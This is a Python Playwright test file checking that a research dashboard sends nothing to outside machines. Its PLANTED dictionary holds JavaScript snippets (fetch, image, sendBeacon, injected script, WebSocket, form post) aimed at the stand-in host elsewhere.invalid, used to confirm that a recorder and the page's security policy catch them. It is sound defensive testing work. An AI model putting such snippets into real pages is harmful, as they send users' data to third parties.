"""Unpublished maps and spectra stand on these pages: nothing on them leads anywhere but to their own server."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager

import pytest
from living_page import await_rest
from outgoing import Outgoing
from playwright.sync_api import Browser, Page, expect
from served_dashboard import ServedDashboard
from waiting import await_condition, patience

pytestmark = pytest.mark.browser

ELSEWHERE = "https://elsewhere.invalid"


@contextmanager
def window(browser: Browser, address: str, *, bypass_csp: bool = False) -> Iterator[tuple[Page, Outgoing]]:
    context = browser.new_context(viewport={"width": 1440, "height": 1000}, bypass_csp=bypass_csp)
    outgoing = Outgoing(context, address)
    page = context.new_page()
    page.set_default_timeout(patience() * 1000)
    expect.set_options(timeout=patience() * 1000)
    yield page, outgoing
    context.close()


def pages(prepared: ServedDashboard) -> list[tuple[str, str, int]]:
    """Every page with something to see on it: its path, its heading and how many charts it has."""
    small = prepared.laboratory
    return [
        ("", "Experiments", 0),
        ("new", "New experiment", 0),
        (f"experiment?id={small.finished}", "Finished one", 2),
        (f"experiment?id={small.failed}", "Failed one", 0),
        (f"compare?ids={small.finished},{prepared.second}", "Compare", 3),
        (f"sample?model={small.finished}&sample={small.sample}", "Sample", 1),
        ("datasets", "quick", 0),
        ("workers", "Workers", 0),
    ]


def open_page(page: Page, address: str, path: str, heading: str, charts: int) -> None:
    page.goto(f"{address}/{path}")
    expect(page.locator("h1").first).to_contain_text(heading)
    drawn = page.locator(".focus-chart[data-draws]")
    if charts:
        expect(drawn).to_have_count(charts)
    page.wait_for_load_state("networkidle")
    await_rest(page)


def press_every_button_of_charts_and_tables(page: Page) -> list[str]:
    buttons = page.locator(".modebar-btn, [data-testid=stElementToolbarButton] button").all()
    names = [str(button.get_attribute("data-title") or button.get_attribute("aria-label")) for button in buttons]
    for button in buttons:
        button.dispatch_event("click")
    return names


def test_no_page_and_no_button_of_a_chart_asks_anything_of_another_machine(
    browser: Browser, prepared: ServedDashboard
) -> None:
    with window(browser, prepared.address) as (page, outgoing):
        for path, heading, charts in pages(prepared):
            open_page(page, prepared.address, path, heading, charts)
            pressed = press_every_button_of_charts_and_tables(page)
            assert pressed.count("Download plot") == charts, f"/{path} has the buttons {pressed}"
            assert not [name for name in pressed if "hare" in name or "loud" in name]
            outgoing.look_at_links(page)
            expect(page.get_by_test_id("stMainMenu")).to_have_count(0)
            expect(page.get_by_test_id("stAppDeployButton")).to_have_count(0)
        page.wait_for_load_state("networkidle")
        assert outgoing.outside == []
        assert outgoing.violations == []
        assert outgoing.refused == [], "asked for what there is not"
        assert outgoing.seen > 100, "the recorder saw hardly anything"


PLANTED = {
    "a fetch": "fetch('ELSEWHERE/fetched').catch(() => {})",
    "a picture": "new Image().src = 'ELSEWHERE/picture.png'",
    "a beacon": "navigator.sendBeacon('ELSEWHERE/beacon', 'maps')",
    "a script": "document.head.append(Object.assign(document.createElement('script'), {src: 'ELSEWHERE/s.js'}))",
    "a WebSocket": "new WebSocket('wss://elsewhere.invalid/socket')",
    "a new window": "window.open('ELSEWHERE/window')",
    "a form": """
        document.body.insertAdjacentHTML("beforeend", "<form method=post target=_blank action=ELSEWHERE/form>");
        document.body.lastChild.submit()""",
}


@pytest.mark.parametrize("policy", [True, False], ids=["with its policy", "without its policy"])
def test_whatever_a_page_sends_elsewhere_is_seen(browser: Browser, prepared: ServedDashboard, policy: bool) -> None:
    """The recorder of the test above finds each kind of door, whether the page's policy shuts it or is not there."""
    with window(browser, prepared.address, bypass_csp=not policy) as (page, outgoing):
        open_page(page, prepared.address, "workers", "Workers", 0)
        for kind, script in PLANTED.items():
            outgoing.outside.clear()
            outgoing.violations.clear()
            page.evaluate(f"() => {{ {script.replace('ELSEWHERE', ELSEWHERE)} }}")
            await_condition(lambda: _seen(page, outgoing), f"{kind} to be seen")
            if policy and kind != "a new window":  # which no policy of a page forbids
                await_condition(lambda: _seen(page, outgoing, stopped=True), f"the policy to stop {kind}")


def _seen(page: Page, outgoing: Outgoing, *, stopped: bool = False) -> list[str]:
    page.wait_for_timeout(1)  # Playwright tells of events only while it is waited on
    sent = [] if stopped else outgoing.outside
    return [what for what in (*sent, *outgoing.violations) if "elsewhere.invalid" in what]
